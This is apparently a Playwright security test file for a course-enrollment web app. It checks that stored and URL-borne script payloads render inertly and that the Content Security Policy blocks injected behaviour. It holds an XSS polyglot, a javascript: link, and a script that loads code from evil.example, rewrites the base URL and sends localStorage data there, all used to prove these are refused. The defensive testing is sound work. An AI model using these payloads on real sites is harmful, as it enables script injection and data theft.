import { test as plain } from '@playwright/test'
import type { Page } from '@playwright/test'
import {
  adminByCall,
  adminCall,
  adminLogIn,
  desktopOnly,
  randomLetters,
} from '../support/office-support.ts'
import { enterAs } from '../support/student-by-calls.ts'
import { expect, newEmail, password, test } from '../support/support.ts'

desktopOnly()

/** Runs wherever a text becomes HTML; counts itself where no dialog is shown. */
const hit = `window.hits = (window.hits ?? 0) + 1; alert(1)`
const evil = `"'><img src=x onerror="${hit}"></title></script><script>${hit}</script>{{7*7}}`

async function noneRan(page: Page): Promise<void> {
  expect(await page.evaluate('window.hits ?? 0')).toBe(0)
}

test('Pages show a stored script as text (attack A07)', { tag: '@long' }, async ({ page }) => {
  const dialogs: string[] = []
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message())
    void dialog.dismiss()
  })
  const session = await adminByCall(page)
  const { token } = session
  const mark = randomLetters()
  const short = `${mark} <img src=x onerror=alert(1)>`
  const { categoryDetails } = await adminCall(page, 'GET /api/admin/getallcategory', { token })
  const data = {
    courseName: short,
    courseCode: `X-${mark}`,
    department: categoryDetails[0]._id,
    mode: 'Offline',
    duration: '1 month',
    courseFee: '100',
    description: `## ${evil}\n\n[click](javascript:alert(1)) ${evil}`,
  }
  const { _id } = await adminCall(page, 'POST /api/admin/addcourse', { token, data })
  const email = newEmail()
  const profile = { name: short, email, password, confirmpassword: password }
  expect((await page.request.post('/api/users/register', { data: profile })).ok()).toBe(true)
  const login = await page.request.post('/api/users/login', { data: { email, password } })
  const student = { email, ...(await login.json()) }
  await adminLogIn(page, session)
  await enterAs(page, student)
  const ofStudent = ['/profile', `/enroll?course=${_id}&campus=Kochi`, '/mypayments']
  const ofOffice = [
    `/getallcourses?q=${mark}`,
    `/editcourse/${_id}`,
    `/admin/students?q=${mark}`,
    `/admin/students/${student.userData._id}`,
    `/admin/activity?q=${mark}`,
  ]
  for (const path of [
    `/courses?q=${mark}`,
    `/courseDetailPage/${_id}`,
    ...ofStudent,
    ...ofOffice,
  ]) {
    await page.goto(path)
    await expect(page.locator('main')).toBeVisible()
    // elsewhere it stands in a field, or not at all
    if (
      /q=[A-Z\d]+$|courseDetail|enroll|students/.test(path) &&
      !path.startsWith('/admin/activity')
    )
      await expect.poll(() => page.locator('body').innerHTML()).toContain(mark)
    await noneRan(page)
  }
  await adminCall(page, `DELETE /api/admin/deletecourse/${_id}`, { token })
  expect(dialogs).toEqual([])
})

test('Pages show a script in an address as text (attack A08)', async ({ page }) => {
  const text = encodeURIComponent(evil)
  for (const path of [
    `/payment/success?orderId=${text}&amount=${text}&status=${text}`,
    `/payment/failure?orderId=${text}&status=${text}`,
    `/courses?q=${text}`,
    `/login?next=${text}`,
  ]) {
    await page.goto(path)
    await expect(page.locator('main')).toBeVisible()
    await noneRan(page)
  }
})

/** What a script that had come in would try next; a text, because this file knows no DOM. */
const attempts = `(async () => {
  const refused = []
  addEventListener('securitypolicyviolation', (event) => refused.push(event.effectiveDirective))
  window.hits = []
  const attempt = (what) => { try { what() } catch {} }
  const script = (fill) => attempt(() => {
    const made = document.createElement('script')
    fill(made)
    document.head.append(made)
  })
  script((made) => { made.textContent = 'hits.push("inline")' })
  script((made) => { made.src = 'data:text/javascript,hits.push("data")' })
  script((made) => { made.src = 'https://evil.example/x.js' })
  attempt(() => { document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="hits.push(1)">') })
  attempt(() => { document.body.setAttribute('onclick', 'hits.push("handler")'); document.body.click() })
  setTimeout(() => attempt(() => window.eval('hits.push("eval")')))
  setTimeout(() => attempt(() => new Function('hits.push("function")')()))
  attempt(() => setTimeout('hits.push("timer")'))
  attempt(() => {
    const base = document.createElement('base')
    base.href = 'https://evil.example/'
    document.head.prepend(base)
  })
  const sent = await fetch('https://evil.example/?' + localStorage.length).then(() => 'sent', () => 'refused')
  const image = new Image()
  const shown = new Promise((resolve) => { image.onload = () => resolve('loaded'); image.onerror = () => resolve('refused') })
  image.src = 'https://evil.example/beacon.png'
  const beacon = await shown
  await new Promise((resolve) => setTimeout(resolve, 0))
  return { hits, sent, beacon, base: new URL(document.baseURI).hostname, refused }
})()`

plain('A page refuses what a script that came in would do (attack A09)', async ({ page }) => {
  const ends: (string | undefined)[] = []
  page.on('requestfailed', (request) => {
    if (request.url().includes('evil.example')) ends.push(request.failure()?.errorText)
  })
  for (const path of ['/civil', '/login']) {
    await page.goto(path)
    const came = (await page.evaluate(attempts)) as { base: string; refused: string[] }
    expect(came, path).toMatchObject({ hits: [], sent: 'refused', beacon: 'refused' })
    expect(came.base).not.toBe('evil.example')
    for (const directive of ['script-src', 'connect-src', 'img-src', 'base-uri'])
      expect(came.refused.join(' '), path).toContain(directive)
  }
  // Chromium tells of such a request, and by whom it was stopped
  for (const end of ends) expect(end).toMatch(/csp/i)
})
